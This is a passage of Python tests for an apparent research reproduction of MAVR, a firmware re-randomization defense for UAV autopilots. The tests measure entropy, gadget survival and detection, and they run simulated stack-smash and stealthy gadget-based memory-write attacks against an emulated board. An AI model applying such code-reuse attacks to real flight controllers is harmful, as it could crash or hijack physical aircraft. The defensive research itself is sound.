    assert result.detector["kind"] == name
    assert set(result.detector["flagged"]) & set(kind.expected_anomalies)
    assert result.delivered_bytes == result.detector["attack_bytes"] > 0
    # the link attack never touches the firmware: the board keeps flying
    assert result.status == "running"


def test_protocol_record_is_deterministic():
    spec = ScenarioSpec(
        protected=False, attack="replay", attack_seed=5, observe_ticks=60,
    )
    first = json.dumps(run_scenario(spec).to_record(), separators=(",", ":"))
    second = json.dumps(run_scenario(spec).to_record(), separators=(",", ":"))
    assert first == second


def test_memory_tier_records_carry_no_detector_key():
    spec = ScenarioSpec(protected=False, attack="v2", observe_ticks=30)
    record = run_scenario(spec).to_record()
    assert "detector" not in record
    assert "swarm" not in record
