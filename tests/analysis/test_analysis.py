"""Security analysis: brute-force formulas vs Monte-Carlo, entropy, gadget
survival, and table formatting."""

import math
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis import (
    attack_survival_rate,
    compare_defenses,
    entropy_report,
    estimate_for,
    expected_attempts_fixed_layout,
    expected_attempts_mavr,
    format_table,
    layouts_for_functions,
    mean_survival_fraction,
    measure_survival,
    padding_entropy_bits,
    paper_vs_measured,
    permutation_entropy_bits,
    simulate_fixed_layout,
    simulate_mavr,
    success_probability_at,
)


# -- closed forms ------------------------------------------------------------

def test_success_probability_is_uniform():
    # the paper's telescoping identity: P(j) = 1/N for every j <= N
    for attempt in (1, 3, 10):
        assert math.isclose(success_probability_at(attempt, 10), 0.1)
    assert success_probability_at(11, 10) == 0.0
    with pytest.raises(ValueError):
        success_probability_at(0, 10)


@given(st.integers(1, 10_000))
def test_expected_attempts_formulas(layouts):
    assert expected_attempts_fixed_layout(layouts) == (layouts + 1) / 2
    assert expected_attempts_mavr(layouts) == layouts


def test_mavr_doubles_fixed_effort_asymptotically():
    layouts = layouts_for_functions(10)
    ratio = expected_attempts_mavr(layouts) / expected_attempts_fixed_layout(layouts)
    assert 1.9 < ratio <= 2.0


def test_estimate_for_paper_apps():
    plane = estimate_for(917)
    assert plane.layouts == math.factorial(917)
    assert plane.log10_layouts > 2000  # astronomically large
    rover = estimate_for(800)
    assert rover.expected_mavr == math.factorial(800)


# -- Monte Carlo agreement ------------------------------------------------------

def test_simulation_matches_fixed_formula():
    rng = random.Random(1)
    layouts = 20
    mean = simulate_fixed_layout(layouts, trials=3000, rng=rng)
    assert abs(mean - expected_attempts_fixed_layout(layouts)) < 0.8


def test_simulation_matches_mavr_formula():
    rng = random.Random(2)
    layouts = 20
    mean = simulate_mavr(layouts, trials=3000, rng=rng)
    assert abs(mean - layouts) / layouts < 0.15


def test_rerandomization_increases_effort():
    rng = random.Random(3)
    layouts = 12
    fixed = simulate_fixed_layout(layouts, trials=4000, rng=rng)
    rerandomized = simulate_mavr(layouts, trials=4000, rng=rng)
    assert rerandomized > fixed * 1.5


# -- entropy -----------------------------------------------------------------------

def test_entropy_800_symbols_is_6567_bits():
    assert abs(permutation_entropy_bits(800) - 6567) < 10


def test_entropy_monotone():
    assert permutation_entropy_bits(1030) > permutation_entropy_bits(917)
    assert permutation_entropy_bits(917) > permutation_entropy_bits(800)


def test_entropy_report_fields():
    report = entropy_report(800)
    assert report.shuffle_bits > 6000
    assert report.padding_bits_16 == 800 * 4
    assert report.total_with_padding > report.shuffle_bits


def test_padding_entropy_validation():
    assert padding_entropy_bits(10, 1) == 0.0
    with pytest.raises(ValueError):
        padding_entropy_bits(10, 0)


def test_compare_defenses_shows_aslr_weakness():
    comparison = compare_defenses(800)
    assert comparison["aslr_16bit_base_bits"] < 10
    assert comparison["function_shuffle_bits"] > 6000


# -- gadget survival ---------------------------------------------------------------

def test_gadget_survival_low(testapp):
    samples = measure_survival(testapp, trials=5, rng=random.Random(0), probe_limit=60)
    fraction = mean_survival_fraction(samples)
    assert fraction < 0.2  # almost every gadget address is invalidated
    assert attack_survival_rate(samples) < 0.5


def test_gadget_survival_empty():
    assert mean_survival_fraction([]) == 0.0
    assert attack_survival_rate([]) == 0.0


# -- report formatting -----------------------------------------------------------------

def test_format_table():
    text = format_table(("a", "bee"), [(1, 2), (30, 4)], title="T")
    lines = text.splitlines()
    assert lines[0] == "T"
    assert "a" in lines[1] and "bee" in lines[1]
    assert "30" in lines[4]  # title, header, separator, row 1, row 2


def test_paper_vs_measured():
    text = paper_vs_measured("Table II", [("arduplane", 19209, 19259)], "ms")
    assert "paper ms" in text
    assert "arduplane" in text
