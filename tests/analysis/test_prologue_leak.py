"""§VI-B1 call-prologue consolidation leak."""

from repro.analysis import measure_prologue_leak


def test_stock_build_leaks(testapp_stock):
    report = measure_prologue_leak(testapp_stock)
    assert report.total_references > 0
    assert report.prologue_references == report.epilogue_references
    assert 0 < report.exposure_fraction < 1


def test_mavr_build_has_no_shared_block(testapp):
    report = measure_prologue_leak(testapp)
    assert report.total_references == 0
    assert report.referencing_functions == 0
    assert report.exposure_fraction == 0.0


def test_references_match_prologue_users(testapp_stock, testapp):
    """Every shared-block user contributes exactly one prologue jmp and
    one epilogue jmp."""
    report = measure_prologue_leak(testapp_stock)
    assert report.prologue_references == report.referencing_functions


def test_paper_scale_leak():
    """At ArduPlane scale the shared block collects multiple beacons —
    each one a way to triangulate the block after randomization."""
    from repro.asm.linker import STOCK_OPTIONS
    from repro.firmware import ARDUPLANE, build_app

    image = build_app(ARDUPLANE, STOCK_OPTIONS)
    report = measure_prologue_leak(image)
    assert report.total_references >= 2 * 2  # >= configured prologue users
    assert report.total_functions == 919  # 917 + the two shared blocks
