"""CLI tool tests (direct main() invocation; builds are cached)."""

import pytest

from repro.tools import build_parser, main


def run(capsys, *argv):
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out


def test_info(capsys, testapp):
    code, out = run(capsys, "info", "testapp")
    assert code == 0
    assert "functions" in out
    assert "60" in out


def test_build(capsys, tmp_path):
    out_file = tmp_path / "app.hex"
    code, out = run(capsys, "build", "testapp", "--out", str(out_file))
    assert code == 0
    assert out_file.exists()
    text = out_file.read_text()
    assert text.startswith(":")
    assert "wrote preprocessed HEX" in out


def test_build_stock_toolchain(capsys):
    code, out = run(capsys, "build", "testapp", "--toolchain", "stock")
    assert code == 0
    assert "mcall-prologues" in out


def test_disasm_single_function(capsys):
    code, out = run(capsys, "disasm", "testapp", "--function", "watchdog_feed")
    assert code == 0
    assert "<watchdog_feed>:" in out
    assert "out 0x05" in out


def test_gadgets(capsys):
    code, out = run(capsys, "gadgets", "testapp")
    assert code == 0
    assert "stk_move" in out
    assert "write_mem_gadget" in out
    assert "out 0x3e, r29" in out


def test_attack_v2(capsys):
    code, out = run(capsys, "attack", "testapp", "--variant", "v2")
    assert code == 0
    assert "STEALTHY" in out


def test_attack_v1(capsys):
    code, out = run(capsys, "attack", "testapp", "--variant", "v1")
    assert code == 0  # the write landed (even though the board crashed)
    assert "crashed" in out


def test_defend(capsys):
    code, out = run(capsys, "defend", "testapp", "--attempts", "1", "--seed", "3")
    assert code == 0
    assert "UAV still flying" in out


def test_attack_protected_with_defense_backend(capsys):
    # ctomp has no layout secrecy: the V2 payload built against the
    # public layout lands (the tradeoff docs/DEFENSES.md documents)
    code, out = run(
        capsys, "attack", "testapp", "--variant", "v2",
        "--protected", "--defense", "ctomp",
    )
    import re

    assert code == 1
    assert "ctomp-protected" in out
    assert re.search(r"write landed\s*\|\s*True", out)


def test_attack_protected_mavr_stops_v2(capsys):
    code, out = run(
        capsys, "attack", "testapp", "--variant", "v2",
        "--protected", "--defense", "mavr",
    )
    assert code == 0
    assert "mavr-protected" in out


def test_defend_with_defense_backend(capsys):
    code, out = run(
        capsys, "defend", "testapp", "--attempts", "1", "--seed", "3",
        "--defense", "daedalus",
    )
    assert code == 0
    assert "UAV still flying" in out


def test_parser_defaults_to_mavr_defense():
    for argv in (
        ["attack", "testapp"],
        ["defend", "testapp"],
        ["campaign", "--app", "testapp"],
    ):
        assert build_parser().parse_args(argv).defense == "mavr"


def test_parser_rejects_unknown_defense():
    with pytest.raises(SystemExit):
        build_parser().parse_args(["attack", "testapp", "--defense", "aslr"])


def test_parser_requires_command():
    with pytest.raises(SystemExit):
        build_parser().parse_args([])


def test_parser_rejects_unknown_app():
    with pytest.raises(SystemExit):
        build_parser().parse_args(["info", "nonesuch"])


def test_info_json(capsys):
    import json

    code, out = run(capsys, "info", "testapp", "--json")
    assert code == 0
    data = json.loads(out)
    assert data["name"] == "testapp"
    assert data["functions"] == 60
    assert data["text"]["end"] > data["text"]["start"]


def test_report_json(capsys):
    import json

    code, out = run(capsys, "report", "--json")
    assert code == 0
    data = json.loads(out)
    assert data["analysis"]["entropy_paper_bits"] == 6567
    assert data["effectiveness"]["v2_vs_unprotected_stealthy"] is True
    assert "tables" not in data  # needs --full


def test_attack_with_telemetry(capsys, tmp_path):
    import json

    log = tmp_path / "attack.jsonl"
    code, out = run(
        capsys, "attack", "testapp", "--protected", "--telemetry", str(log)
    )
    assert code == 0
    assert "mavr-protected" in out
    records = [json.loads(line) for line in log.read_text().splitlines()]
    names = {r["event"] for r in records}
    assert "attack.outcome" in names
    snapshot = json.loads((tmp_path / "attack.jsonl.snapshot.json").read_text())
    metric_names = {m["name"] for m in snapshot["metrics"]}
    assert "cpu.instructions_retired" in metric_names
    assert "isp.bytes_on_wire" in metric_names
    assert any(s["name"].startswith("mavr.") and s["parent_id"] is not None
               for s in snapshot["spans"])  # at least one nested mavr.* span


def test_defend_json(capsys):
    import json

    code, out = run(capsys, "defend", "testapp", "--attempts", "1",
                    "--seed", "3", "--json")
    assert code == 0
    data = json.loads(out)
    assert data["attempts"] == 1
    assert data["effects"] == 0
    assert data["detections"] == 1
    assert data["still_flying"] is True
    assert data["per_attempt_detected"] == [True]
    assert data["detection_rate"] == 1.0


def test_defend_jobs_matches_serial(capsys):
    import json

    code_serial, out_serial = run(
        capsys, "defend", "testapp", "--attempts", "2", "--seed", "5", "--json"
    )
    code_jobs, out_jobs = run(
        capsys, "defend", "testapp", "--attempts", "2", "--seed", "5",
        "--jobs", "2", "--json",
    )
    assert code_serial == code_jobs == 0
    assert json.loads(out_serial) == json.loads(out_jobs)


def test_campaign_json_schema(capsys, tmp_path):
    import json

    records_path = tmp_path / "records.jsonl"
    code, out = run(capsys, "campaign", "--app", "testapp", "--attack",
                    "guess", "-n", "2", "--seed", "7", "--json",
                    "--jsonl", str(records_path))
    assert code == 0
    data = json.loads(out)
    assert data["app"] == "testapp"
    assert data["attack"] == "guess"
    aggregates = data["aggregates"]
    assert aggregates["scenarios"] == 2
    assert aggregates["effects"] == 0
    assert aggregates["detections"] == 2
    assert aggregates["errors"] == 0
    assert aggregates["by_outcome"] == {"deflected": 2}
    assert data["runner"]["jobs"] == 1
    # per-phase breakdown rides the JSON output
    assert "run" in data["phases"]
    assert data["phases"]["run"]["scenarios"] == 2
    lines = [json.loads(line) for line in records_path.read_text().splitlines()]
    assert [line.get("index") for line in lines[:-2]] == [0, 1]
    assert lines[-2]["campaign.aggregates"] == aggregates
    phase_line = lines[-1]["campaign.phases"]
    assert set(phase_line["run"]) == {"scenarios", "sim_ms"}


def test_campaign_table_output(capsys):
    code, out = run(capsys, "campaign", "--app", "testapp", "-n", "1")
    assert code == 0
    assert "campaign vs mavr-protected testapp" in out
    assert "outcome[deflected]" in out


def test_campaign_worker_crash_retries(capsys, tmp_path):
    import json

    marker = tmp_path / "crash.marker"
    code, out = run(capsys, "campaign", "--app", "testapp", "-n", "2",
                    "--jobs", "2", "--seed", "7", "--json",
                    "--inject-worker-fault", str(marker))
    assert marker.exists()  # a pool worker genuinely died mid-run
    assert code == 0  # ...and the retry recovered every scenario
    data = json.loads(out)
    assert data["aggregates"]["errors"] == 0
    assert data["aggregates"]["scenarios"] == 2


def test_campaign_cache_checkpoint_and_resume(capsys, tmp_path):
    import json

    cache = tmp_path / "cache"
    ckpt = tmp_path / "ckpt"
    common = ("campaign", "--app", "testapp", "-n", "2", "--seed", "7",
              "--json", "--cache-dir", str(cache),
              "--checkpoint-dir", str(ckpt))
    code, out = run(capsys, *common)
    assert code == 0
    data = json.loads(out)
    assert data["runner"]["cache_dir"] == str(cache)
    assert data["runner"]["shards"] == 4
    assert any(cache.iterdir())  # build/deploy/board artifacts published
    assert list(ckpt.glob("shard-*.jsonl"))
    # resume replays everything from the checkpoints, runs nothing new
    code, out = run(capsys, *common, "--resume")
    assert code == 0
    resumed = json.loads(out)
    assert resumed["runner"]["resumed"] == 2
    assert resumed["aggregates"] == data["aggregates"]


def test_campaign_resume_requires_checkpoint_dir(capsys):
    code, _ = run(capsys, "campaign", "-n", "1", "--resume")
    assert code == 2


def test_campaign_serve_parser_wiring():
    args = build_parser().parse_args(
        ["campaign", "serve", "--port", "0", "--jobs", "2"]
    )
    assert args.campaign_command == "serve"
    assert args.port == 0 and args.jobs == 2
    assert args.host == "127.0.0.1"
    # the plain campaign form is untouched by the sub-subcommand
    plain = build_parser().parse_args(["campaign", "-n", "3"])
    assert getattr(plain, "campaign_command", None) is None
    assert plain.count == 3


def test_telemetry_command(capsys, tmp_path):
    import json

    snap = tmp_path / "snap.json"
    code, out = run(capsys, "telemetry", "testapp", "--out", str(snap))
    assert code == 0
    assert "attacks detected" in out
    data = json.loads(snap.read_text())
    assert data["schema"] == 1
    assert any(e["event"] == "attack.detected" for e in data["events"])


def test_telemetry_with_profile_and_flight_recorder(capsys, tmp_path):
    import json

    snap = tmp_path / "snap.json"
    code, out = run(capsys, "telemetry", "testapp", "--ticks", "10",
                    "--profile", "exact", "--flight-recorder",
                    "--out", str(snap))
    assert code == 0
    assert "profile anomalies" in out
    assert "forensic bundle" in out
    data = json.loads(snap.read_text())
    assert data["profile"]["mode"] == "exact"
    assert data["profile"]["report"]["total_hits"] > 0
    assert data["forensics"]["kind"] in ("cpu_fault", "attack_detected")
    assert data["forensics"]["ring"]


def test_profile_command_table(capsys):
    code, out = run(capsys, "profile", "--app", "testapp", "--ticks", "40")
    assert code == 0
    assert "mode: exact" in out
    assert "self-cycles" in out
    assert "main" in out


def test_profile_command_json_and_collapsed(capsys, tmp_path):
    import json

    collapsed = tmp_path / "stacks.txt"
    code, out = run(capsys, "profile", "--app", "testapp", "--ticks", "30",
                    "--mode", "heatmap", "--collapsed", str(collapsed),
                    "--json")
    assert code == 0
    data = json.loads(out)
    assert data["mode"] == "heatmap"
    assert data["anomaly_count"] == 0  # clean flight
    lines = collapsed.read_text().strip().splitlines()
    assert lines and all(line.rsplit(" ", 1)[1].isdigit() for line in lines)
    assert any(";" in line for line in lines)  # real call chains


def test_profile_block_mode_on_compiled_engine(capsys):
    code, out = run(capsys, "profile", "--app", "testapp", "--ticks", "30",
                    "--mode", "block", "--engine", "compiled")
    assert code == 0
    assert "mode: block" in out


def test_attack_forensics_roundtrip_through_renderer(capsys, tmp_path):
    bundle_path = tmp_path / "bundle.json"
    code, out = run(capsys, "attack", "testapp", "--variant", "v2",
                    "--forensics", str(bundle_path))
    assert code == 0
    assert bundle_path.exists()
    assert "profile anomalies" in out

    code, rendered = run(capsys, "forensics", str(bundle_path))
    assert code == 0
    assert "# forensic bundle: profile_anomaly" in rendered
    assert "bad_return" in rendered
    assert "rtos_context_restore" in rendered or "param_block_write" in rendered
    assert "## flight recorder" in rendered
    assert "## fault neighbourhood" in rendered


def test_campaign_progress_lines(capsys):
    code = main(["campaign", "--app", "testapp", "-n", "2", "--seed", "3",
                 "--progress", "--json"])
    captured = capsys.readouterr()
    assert code == 0
    progress = [line for line in captured.err.splitlines() if line]
    assert len(progress) == 2
    assert progress[0].startswith("[1/2] ")
    assert progress[1].startswith("[2/2] ")
