"""The report subcommand."""

from repro.tools import main


def test_report_stdout(capsys, testapp):
    code = main(["report"])
    out = capsys.readouterr().out
    assert code == 0
    assert "6567 bits" in out
    assert "stealthy success" in out
    assert "0 effects" in out


def test_report_to_file(tmp_path, capsys, testapp):
    target = tmp_path / "report.md"
    code = main(["report", "--out", str(target)])
    assert code == 0
    text = target.read_text()
    assert text.startswith("# MAVR reproduction report")
    assert "hardware cost" in text
