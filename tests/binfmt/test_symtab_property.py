"""Property test: the binary search in function_containing matches a
reference linear scan for arbitrary tilings."""

from hypothesis import given
from hypothesis import strategies as st

from repro.binfmt import Symbol, SymbolTable


@st.composite
def tilings(draw):
    count = draw(st.integers(1, 30))
    start = draw(st.integers(0, 512).map(lambda v: v * 2))
    sizes = draw(st.lists(st.integers(1, 64).map(lambda v: v * 2),
                          min_size=count, max_size=count))
    table = SymbolTable()
    cursor = start
    spans = []
    for index, size in enumerate(sizes):
        table.add(Symbol(f"f{index}", cursor, size))
        spans.append((cursor, cursor + size))
        cursor += size
    return table, spans, start, cursor


def reference_containing(spans, address):
    for index, (lo, hi) in enumerate(spans):
        if lo <= address < hi:
            return index
    return None


@given(tilings(), st.integers(0, 5000))
def test_function_containing_matches_linear_scan(tiling, address):
    table, spans, _start, _end = tiling
    expected = reference_containing(spans, address)
    actual = table.function_containing(address)
    if expected is None:
        assert actual is None
    else:
        assert actual is not None
        assert actual.name == f"f{expected}"


@given(tilings())
def test_tiling_validates(tiling):
    table, _spans, start, end = tiling
    table.validate_tiling(start, end)
