"""Symbol tables, firmware image metadata, and mini-ELF containers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.binfmt import (
    FirmwareImage,
    MiniElf,
    Section,
    Symbol,
    SymbolKind,
    SymbolTable,
)
from repro.binfmt.symtab import DATA_SPACE_FLAG, is_sram_symbol, sram_address
from repro.errors import BinfmtError


def make_table():
    return SymbolTable([
        Symbol("alpha", 0x100, 0x20),
        Symbol("beta", 0x120, 0x10),
        Symbol("gamma", 0x130, 0x30),
        Symbol("table", 0x160, 8, SymbolKind.OBJECT),
    ])


def test_lookup_and_iteration():
    table = make_table()
    assert len(table) == 4
    assert table.get("beta").address == 0x120
    assert "alpha" in table
    assert "missing" not in table
    with pytest.raises(BinfmtError):
        table.get("missing")


def test_functions_sorted_and_objects_split():
    table = make_table()
    assert [s.name for s in table.functions()] == ["alpha", "beta", "gamma"]
    assert [s.name for s in table.objects()] == ["table"]


def test_duplicate_symbol_rejected():
    table = make_table()
    with pytest.raises(BinfmtError):
        table.add(Symbol("alpha", 0x200, 2))


def test_function_containing_binary_search():
    table = make_table()
    assert table.function_containing(0x100).name == "alpha"
    assert table.function_containing(0x11F).name == "alpha"
    assert table.function_containing(0x120).name == "beta"
    assert table.function_containing(0x135).name == "gamma"
    assert table.function_containing(0x15F).name == "gamma"
    assert table.function_containing(0x160) is None  # object, not function
    assert table.function_containing(0x50) is None


def test_word_address():
    assert Symbol("f", 0x1B284, 2).word_address == 0x1B284 // 2


def test_serialization_roundtrip():
    table = make_table()
    clone = SymbolTable.from_bytes(table.to_bytes())
    assert [(s.name, s.address, s.size, s.kind) for s in clone] == [
        (s.name, s.address, s.size, s.kind) for s in table
    ]


def test_serialization_rejects_garbage():
    with pytest.raises(BinfmtError):
        SymbolTable.from_bytes(b"NOPE" + b"\x00" * 16)
    with pytest.raises(BinfmtError):
        SymbolTable.from_bytes(b"MV")


names = st.text(
    alphabet=st.characters(whitelist_categories=("Ll", "Lu", "Nd"), whitelist_characters="_"),
    min_size=1, max_size=24,
)


@given(st.lists(names, unique=True, min_size=1, max_size=20), st.randoms())
def test_serialization_roundtrip_property(symbol_names, rng):
    cursor = 0
    table = SymbolTable()
    for name in symbol_names:
        size = rng.randrange(2, 100, 2)
        table.add(Symbol(name, cursor, size))
        cursor += size
    clone = SymbolTable.from_bytes(table.to_bytes())
    assert len(clone) == len(table)
    for original, copy in zip(table, clone):
        assert original == copy


def test_validate_tiling_detects_gap_and_overlap():
    good = SymbolTable([Symbol("a", 0, 4), Symbol("b", 4, 6)])
    good.validate_tiling(0, 10)
    gap = SymbolTable([Symbol("a", 0, 4), Symbol("b", 6, 4)])
    with pytest.raises(BinfmtError):
        gap.validate_tiling(0, 10)
    short = SymbolTable([Symbol("a", 0, 4)])
    with pytest.raises(BinfmtError):
        short.validate_tiling(0, 10)


def test_sram_symbol_helpers():
    sym = Symbol("counter", DATA_SPACE_FLAG + 0x200, 2, SymbolKind.OBJECT)
    assert is_sram_symbol(sym)
    assert sram_address(sym) == 0x200
    assert not is_sram_symbol(Symbol("f", 0x100, 2))


# -- FirmwareImage -------------------------------------------------------

def tiny_image():
    code = bytes(64)
    table = SymbolTable([
        Symbol("main", 8, 16),
        Symbol("helper", 24, 24),
    ])
    return FirmwareImage(
        code=code, symbols=table, text_start=8, text_end=48,
        data_start=48, data_end=64, entry_symbol="main", name="tiny",
    )


def test_image_queries():
    image = tiny_image()
    assert image.size == 64
    assert image.function_count() == 2
    assert image.entry_address() == 8
    assert len(image.function_bytes(image.symbols.get("helper"))) == 24


def test_image_bounds_validation():
    with pytest.raises(BinfmtError):
        FirmwareImage(
            code=bytes(16), symbols=SymbolTable(), text_start=0, text_end=32,
            data_start=0, data_end=0,
        )


def test_image_funcptr_validation():
    image = tiny_image()
    image.funcptr_locations = [48]
    code = bytearray(image.code)
    code[48] = 50 // 2  # byte 50: in the data region, not a function
    broken = image.with_code(bytes(code))
    broken.funcptr_locations = [48]
    with pytest.raises(BinfmtError):
        broken.validate()
    code[48] = 24 // 2  # helper's word address
    good = image.with_code(bytes(code))
    good.funcptr_locations = [48]
    good.validate()


def test_image_funcptr_trampoline_targets_allowed():
    """Slots may point below .text (fixed-region trampoline stubs)."""
    image = tiny_image()
    code = bytearray(image.code)
    code[48] = 2 // 2  # byte 2: inside the fixed region
    stubbed = image.with_code(bytes(code))
    stubbed.funcptr_locations = [48]
    stubbed.validate()


def test_preprocessed_hex_roundtrip():
    image = tiny_image()
    restored = FirmwareImage.from_preprocessed_hex(image.to_preprocessed_hex())
    assert restored.code == image.code
    assert restored.text_start == image.text_start
    assert restored.text_end == image.text_end
    assert restored.name == "tiny"
    assert restored.entry_symbol == "main"
    assert [s.name for s in restored.symbols] == [s.name for s in image.symbols]


def test_with_code_replaces_tag():
    image = tiny_image()
    clone = image.with_code(bytes(64), toolchain_tag="custom")
    assert clone.toolchain_tag == "custom"
    assert image.toolchain_tag == "stock"


# -- MiniElf --------------------------------------------------------------

def test_minielf_roundtrip():
    obj = MiniElf()
    obj.add_section(Section(".text", 0, b"\x01\x02"))
    obj.add_section(Section(".data", 16, b"\x03"))
    obj.symbols.add(Symbol("main", 0, 2))
    clone = MiniElf.from_bytes(obj.to_bytes())
    assert clone.section(".text").data == b"\x01\x02"
    assert clone.section(".data").address == 16
    assert clone.symbols.get("main").size == 2


def test_minielf_overlap_rejected():
    obj = MiniElf()
    obj.add_section(Section(".text", 0, bytes(16)))
    with pytest.raises(BinfmtError):
        obj.add_section(Section(".data", 8, bytes(4)))


def test_minielf_flat_image():
    obj = MiniElf()
    obj.add_section(Section(".text", 0, b"\xaa"))
    obj.add_section(Section(".data", 4, b"\xbb"))
    flat = obj.flat_image()
    assert flat == b"\xaa\xff\xff\xff\xbb"


def test_minielf_bad_magic():
    with pytest.raises(BinfmtError):
        MiniElf.from_bytes(b"XXXX\x01\x00\x00\x00")
