"""Intel HEX encode/decode, including >64K images and the symbol window."""

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from repro.binfmt import (
    SYMBOL_WINDOW_BASE,
    decode,
    decode_with_symbols,
    encode,
    encode_with_symbols,
)
from repro.errors import BinfmtError


def test_simple_roundtrip():
    chunks = {0: b"\x01\x02\x03\x04"}
    assert decode(encode(chunks)) == chunks


def test_multiple_chunks_roundtrip():
    chunks = {0: b"abc", 0x100: b"def"}
    assert decode(encode(chunks)) == chunks


def test_adjacent_chunks_coalesce():
    chunks = {0: b"ab", 2: b"cd"}
    assert decode(encode(chunks)) == {0: b"abcd"}


def test_above_64k_uses_extended_records():
    chunks = {0x1B284: b"\xde\xad\xbe\xef"}  # write_mem_gadget address range
    text = encode(chunks)
    assert ":02000004" in text  # extended linear address record
    assert decode(text) == chunks


def test_record_crossing_64k_boundary():
    chunks = {0xFFFC: bytes(range(8))}
    decoded = decode(encode(chunks))
    assert decoded == chunks


def test_eof_required():
    text = encode({0: b"ab"})
    without_eof = "\n".join(line for line in text.splitlines() if ":00000001FF" not in line)
    with pytest.raises(BinfmtError):
        decode(without_eof)


def test_checksum_rejected_on_corruption():
    text = encode({0: b"\x01\x02\x03\x04"})
    lines = text.splitlines()
    # flip one payload hex digit in the first data record
    broken = lines[0][:11] + ("0" if lines[0][11] != "0" else "1") + lines[0][12:]
    with pytest.raises(BinfmtError):
        decode("\n".join([broken] + lines[1:]))


def test_bad_start_code():
    with pytest.raises(BinfmtError):
        decode("020000040000FA\n:00000001FF")


def test_data_after_eof_rejected():
    with pytest.raises(BinfmtError):
        decode(":00000001FF\n:0100000041BE")


def test_unsupported_record_type():
    # record type 0x05 (start linear address) unsupported
    with pytest.raises(BinfmtError):
        decode(":04000005000000C037\n:00000001FF")


@given(st.dictionaries(
    st.integers(0, 0x3FFF0).map(lambda a: a * 16),
    st.binary(min_size=1, max_size=64),
    min_size=0, max_size=8,
))
def test_roundtrip_property(chunks):
    # overlapping chunks make the roundtrip ill-defined (last-writer-wins
    # depends on record order); only non-overlapping maps are valid input
    spans = sorted((base, base + len(data)) for base, data in chunks.items())
    assume(all(end <= start for (_, end), (start, _) in zip(spans, spans[1:])))
    decoded = decode(encode(chunks))
    # decode coalesces; re-serialize both and compare flattened bytes
    def flatten(mapping):
        out = {}
        for base, data in mapping.items():
            for i, value in enumerate(data):
                out[base + i] = value
        return out
    assert flatten(decoded) == flatten(chunks)


def test_symbol_window_split():
    code = bytes(range(32))
    blob = b"SYMBOLBLOB"
    text = encode_with_symbols(code, blob)
    out_code, out_blob = decode_with_symbols(text)
    assert out_code == code
    assert out_blob == blob


def test_symbol_window_base_above_flash():
    assert SYMBOL_WINDOW_BASE > 256 * 1024


def test_decode_with_symbols_requires_code():
    text = encode({SYMBOL_WINDOW_BASE: b"onlysymbols"})
    with pytest.raises(BinfmtError):
        decode_with_symbols(text)


def test_encode_record_size_bounds():
    with pytest.raises(BinfmtError):
        encode({0: b"x"}, record_size=0)
    with pytest.raises(BinfmtError):
        encode({0: b"x"}, record_size=300)
