"""Differential tests: predecoded + block + compiled engines vs the
reference interpreter on the paper's real scenarios.

These are the acceptance gates of the execution-engine PRs: the V2
stealthy attack and a full MAVR re-randomization boot must produce
bit-for-bit identical PC/SP/SREG/cycle streams on all four engines,
trace hooks must fire with identical ``(pc, insn)`` sequences, and after
the master detects a crash and re-randomizes, the next ``run()`` must
execute the *new* image (the stale-decode regression).

The block and compiled engines are exercised twice per scenario: with a
``CpuStateStream`` attached (which transparently degrades them to exact
per-instruction retirement — that path must stay bit-exact) and with no
hooks at all (the fused/compiled fast paths — end states and attack
outcomes must still match the reference exactly).
"""

import random

import pytest

from repro.attack import BasicAttack, StealthyAttack
from repro.avr import CpuStateStream, ExecutionTrace, diff_state_streams
from repro.avr.decoder import decode_at
from repro.core.master import MasterProcessor
from repro.core.preprocess import preprocess
from repro.firmware import build_testapp
from repro.uav import Autopilot, AutopilotStatus

ENGINES = ("interpreter", "predecoded", "blocks", "compiled")
REFERENCE = "interpreter"


@pytest.fixture(scope="module")
def image():
    return build_testapp()


def test_v2_stealthy_attack_lockstep(image):
    """The paper's core scenario retires identically on both engines."""
    streams = {}
    outcomes = {}
    for engine in ENGINES:
        uav = Autopilot(image, engine=engine)
        streams[engine] = CpuStateStream().attach(uav.cpu)
        outcomes[engine] = StealthyAttack(image).execute(uav, values=b"\x40\x00\x00")
    for engine in ENGINES:
        assert outcomes[engine].succeeded and outcomes[engine].stealthy
    for engine in ENGINES[1:]:
        divergence = diff_state_streams(streams[REFERENCE], streams[engine])
        assert divergence is None, f"{engine}: {divergence}"
        assert len(streams[engine].states) > 10_000  # a real workload ran


def test_mavr_rerandomization_boot_lockstep(image):
    """Boot-time randomization + protected flight, engine-independent."""
    streams = {}
    for engine in ENGINES:
        uav = Autopilot(image, engine=engine)
        master = MasterProcessor(uav, rng=random.Random(2015))
        master.deploy(preprocess(image))
        master.boot(attack_detected=True)  # force a fresh permutation
        assert master.stats.randomizations == 1
        streams[engine] = CpuStateStream().attach(uav.cpu)
        master.run(ticks=40)
        assert uav.status is AutopilotStatus.RUNNING
    for engine in ENGINES[1:]:
        divergence = diff_state_streams(streams[REFERENCE], streams[engine])
        assert divergence is None, f"{engine}: {divergence}"
        assert len(streams[engine].states) > 10_000


def test_trace_hook_parity_stealthy_scenario(image):
    """trace_hooks fire with identical (pc, insn) sequences in cached and
    uncached modes across the stealthy_attack_demo scenario."""
    traces = {}
    for engine in ENGINES:
        uav = Autopilot(image, engine=engine)
        trace = ExecutionTrace()
        trace.attach(uav.cpu)
        StealthyAttack(image).execute(uav, values=b"\x40\x00\x00")
        traces[engine] = trace
    reference = traces[REFERENCE]
    for engine in ENGINES[1:]:
        trace = traces[engine]
        assert len(reference.instructions) == len(trace.instructions)
        assert reference.instructions == trace.instructions
        assert reference.io_writes == trace.io_writes


def test_no_stale_decodes_after_crash_rerandomization(image):
    """After the master detects a crash and re-randomizes, every retired
    instruction must decode from the *new* image's bytes."""
    uav = Autopilot(image, engine="predecoded")
    master = MasterProcessor(uav, rng=random.Random(7))
    master.deploy(preprocess(image))
    master.boot(attack_detected=True)
    first_image = master.current_image
    uav.run_ticks(5)  # fill the decode cache with first-image decodes
    generation_before = uav.cpu.flash.generation

    # V1 smashes the stack and the board walks into garbage.
    BasicAttack(image).execute(uav, values=b"\x11\x22\x33")
    assert uav.status is AutopilotStatus.CRASHED
    assert master.watch()  # detected -> reset + re-randomize
    second_image = master.current_image
    assert second_image.code != first_image.code
    assert uav.cpu.flash.generation > generation_before

    # Every instruction retired from now on must match a fresh decode of
    # the new image at the same address — a stale cache entry from the
    # first image would differ at the first permuted block.
    checked = []

